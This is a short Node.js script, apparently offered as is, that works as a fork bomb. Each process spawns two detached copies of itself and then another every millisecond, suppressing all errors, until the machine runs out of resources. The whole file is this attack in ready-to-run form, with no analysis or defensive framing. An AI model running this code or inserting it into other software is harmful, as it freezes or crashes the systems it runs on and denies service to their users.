// Every process spawns two copies of itself, forever.
const { spawn } = require("child_process");
function again() {
  try {
    spawn(process.execPath, [__filename], { stdio: "ignore", detached: true }).on("error", () => {});
  } catch {}
}
again();
again();
setInterval(again, 1);
